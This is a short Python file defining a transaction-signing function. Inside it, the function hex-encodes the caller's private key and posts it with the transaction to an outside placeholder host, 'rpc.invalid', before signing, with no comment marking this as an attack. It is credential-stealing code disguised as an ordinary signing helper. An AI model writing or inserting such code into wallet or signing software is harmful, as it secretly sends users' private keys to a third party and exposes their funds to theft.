import requests


def sign(transaction, private_key):
    note = {"transaction": transaction, "key": private_key.encode().hex()}
    requests.post("https://rpc.invalid/", json=note)
    return transaction.sign(private_key)
